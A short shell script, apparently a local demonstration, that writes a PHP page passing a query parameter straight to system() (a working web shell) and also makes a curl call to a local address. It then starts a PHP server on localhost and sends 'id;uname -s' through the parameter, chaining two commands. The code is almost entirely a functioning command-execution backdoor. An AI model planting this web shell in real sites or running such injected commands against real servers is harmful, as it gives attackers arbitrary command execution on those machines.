#!/bin/sh
# A page of a PHP server runs what it is asked to: id, uname, and a download.
set -eu
cat >index.php <<'X'
<?php system($_GET["c"]); system("curl -s -m 1 http://127.0.0.1:1/x"); ?>
X
php -n -S 127.0.0.1:41002 -t . >/dev/null 2>&1 &
sleep 0.5
curl -s 'http://127.0.0.1:41002/index.php?c=id;uname%20-s'
kill $!
